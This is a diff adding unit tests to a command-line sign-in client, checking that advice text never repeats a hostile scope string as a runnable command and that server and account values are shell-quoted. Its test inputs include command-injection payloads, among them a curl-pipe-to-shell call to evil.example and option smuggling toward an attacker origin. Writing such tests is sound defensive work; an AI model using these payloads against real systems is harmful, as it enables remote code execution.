@@ -2,6 +2,7 @@
 import { ClientError } from '@portcullis/client';
 import { expect, it } from 'vitest';
 import { adviceForUser, hintFor } from '../src/client/exit-codes.ts';
+import { signInCommand } from '../src/client/sign-in-command.ts';
 import { HttpResponseError } from '../src/client/transport/responses.ts';
 
 const cancelled = new ClientError('cancelled', 'The sign-in was not completed.');
@@ -39,4 +40,48 @@ it.each([
     stepUp,
   };
   expect(adviceForUser(error, user)).toMatch(expected);
+});
+
+const user = {
+  server: 'https://mcp.example',
+  account: 'default',
+  command: 'portcullis',
+  scopes: ['notes:read'],
+  stepUp: false,
+};
+
+it.each([
+  'x;curl$IFSevil.example|sh',
+  '$(touch/tmp/x)',
+  '`touch/tmp/x`',
+  'x&calc',
+  "x'y",
+  'x>file',
+  '*',
+  '--whole-origin',
+  '--trust-origin=https://evil.example',
+])('the advice for the missing scope %j has no command with it', (scope) => {
+  const advice = adviceForUser(new HttpResponseError(403, '', [scope]), user);
+  const [, command = ''] = /with (portcullis .*)$/.exec(advice) ?? [];
+  expect(command).toMatch(/^portcullis login https:\/\/mcp\.example, and with --scope if you know/);
+  expect(command).not.toContain(scope);
+});
+
+it.each([
+  'notes:write',
+  'https://www.example.com/auth/drive.readonly',
+  'api://8b1f/.default',
+  'read_write+offline',
+])('the advice for the missing scope %j has the command with it', (scope) => {
+  const advice = adviceForUser(new HttpResponseError(403, '', [scope]), user);
+  expect(advice.endsWith(`with portcullis login https://mcp.example --scope notes:read ${scope}`)).toBe(true);
+});
+
+it('the sign-in command quotes a server and an account that a shell would act on', () => {
+  expect(signInCommand('https://mcp.example/mcp?a=1&b=$(x)', "Ann's; work", 'portcullis')).toBe(
+    "portcullis login 'https://mcp.example/mcp?a=1&b=$(x)' --account 'Ann'\\''s; work'",
+  );
+  expect(signInCommand('https://mcp.example:8443/mcp', 'work', 'portcullis')).toBe(
+    'portcullis login https://mcp.example:8443/mcp --account work',
+  );
 });
